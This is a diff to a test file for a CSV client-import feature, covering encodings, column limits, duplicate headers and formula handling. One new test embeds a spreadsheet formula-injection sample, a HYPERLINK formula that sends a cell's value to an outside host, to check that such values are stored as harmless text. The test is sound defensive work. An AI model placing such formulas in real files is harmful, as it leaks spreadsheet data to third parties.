@@ -1,9 +1,10 @@
 import { beforeAll, describe, expect, it } from "vitest";
-import { clients, importRows, imports } from "@/db/schema";
+import { clients, importKeys, importRows, imports } from "@/db/schema";
 import { makeEmployee } from "@/tests/factories/employees";
 import { staffCookie } from "@/tests/support/call";
 import { testDatabase } from "@/tests/support/database";
 import { staffWith } from "@/tests/support/people";
+import { rowOf } from "@/tests/support/rows";
 import { brought, checked, giveUp, map, read, run, upload } from "./importing";
 
 const db = testDatabase();
@@ -26,8 +27,8 @@ describe("files that are none", () => {
     expect(await refused(bytes(0x89, 0x50, 0x4e, 0x47, 0, 1, 2))).toMatch(/^422 This isn't a CSV file/);
     expect(await refused("Id,Name\n")).toBe("422 The file has headers but no rows.");
     expect(await refused("only one\na\n")).toMatch(/^422 The file has only one column/);
-    const wide = Array.from({ length: 200 }, (_, i) => `c${i}`).join(",");
-    expect(await refused(`${wide}\n${wide}\n`)).toBe("422 The file has 200 columns. The most is 100.");
+    const wide = Array.from({ length: 900 }, (_, i) => `c${i}`).join(",");
+    expect(await refused(`${wide}\n${wide}\n`)).toBe("422 The file has 900 columns. The most is 500.");
     expect(await refused(`Id,Name\n1,${"x".repeat(300_000)}\n`)).toMatch(
       /^422 Line 2: this line is too long/,
     );
@@ -41,11 +42,12 @@ describe("files that are none", () => {
 });
 
 describe("files as programs write them", () => {
-  it("are read in UTF-8 with a mark, Excel's Latin, and UTF-16; with CRLF, semicolons and quotes", async () => {
+  it("are read in UTF-8 with a mark, Excel's Latin, and UTF-16 both ways; with CRLF, semicolons and quotes", async () => {
     const text = 'Id;Last name;Address\r\n1;Gagné;"12 ""Rear"" Clinton;St\r\nUnit 2"\r\n\r\n2;Noël;\r\n';
     const latin = Uint8Array.from(Buffer.from(text, "latin1"));
     const wide = Uint8Array.from(Buffer.from(`\uFEFF${text}`, "utf16le"));
-    for (const content of [`\uFEFF${text}`, latin, wide]) {
+    const swapped = Uint8Array.from(Buffer.from(wide).swap16());
+    for (const content of [`\uFEFF${text}`, latin, wide, swapped]) {
       await db.delete(clients);
       const { id } = (await upload({ kind: "clients", content, cookie })).body;
       const found = await read(id, cookie);
@@ -61,6 +63,23 @@ describe("files as programs write them", () => {
   it("may have longer and shorter lines than headers", async () => {
     const content = "Id,Last name,Phone\n1,Ann\n2,Bea,416-555-0100,more\n";
     expect(await checked({ kind: "clients", content, cookie })).toMatchObject({ created: 2, bad: 0 });
+  });
+
+  it("may have a header twice: the second says which column it is", async () => {
+    const content = "Id,Last name,Phone,Phone\n1,Ann,12,416-555-0100\n";
+    const { id } = (await upload({ kind: "clients", content, cookie })).body;
+    const found = await read(id, cookie);
+    expect(found.headers).toEqual(["Id", "Last name", "Phone", "Phone (column 4)"]);
+    expect(found.mapping).toEqual({ key: 0, lastname: 1, phone: 2 });
+  });
+
+  it("may hold formulas: they are texts, whole in the database and harmless in our own files", async () => {
+    const formula = '=HYPERLINK("http://example.com/?x="&A1)';
+    const content = `Id,Last name,Phone,Source\n"=""0052""",Ann,"=""416-555-0100""","${formula.replaceAll('"', '""')}"\n`;
+    await brought({ kind: "clients", content, cookie });
+    const row = await rowOf(clients, { lastname: "Ann", phone: "416-555-0100" });
+    expect(row?.source).toBe(formula);
+    expect(await rowOf(importKeys, { kind: "client", key: "k:0052" })).toBeDefined();
   });
 });
 
